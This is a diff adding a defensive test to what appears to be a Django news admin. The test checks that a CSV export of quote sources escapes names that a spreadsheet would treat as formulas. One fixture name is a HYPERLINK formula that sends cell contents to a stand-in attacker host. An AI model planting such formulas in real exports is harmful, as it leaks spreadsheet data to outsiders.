@@ -181,3 +181,23 @@ def test_report_page_covers_the_last_90_days_until_a_range_is_chosen(client, edi
     url = reverse("admin:articles_source_report")
     assert client.get(url).context["report"].quotes == 1
     assert client.get(url, {"start": "", "end": ""}).context["report"].quotes == 2
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula_typed_as_a_name(client, editor):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    for name in (formula, "+1 for the mayor", "@council"):
+        QuoteFactory(source=SourceFactory(name=name, organization=""), article=PublishedArticleFactory())
+    client.force_login(editor)
+
+    table = list(
+        csv.reader(
+            io.StringIO(
+                client.get(reverse("admin:articles_source_report"), {"format": "csv"}).content.decode()
+            )
+        )
+    )
+
+    labels = [row[1] for row in table if row[0] == "Source"]
+    assert len(labels) == 3
+    for typed in (formula, "+1 for the mayor", "@council"):
+        assert any(label.startswith(f"'{typed}") for label in labels)
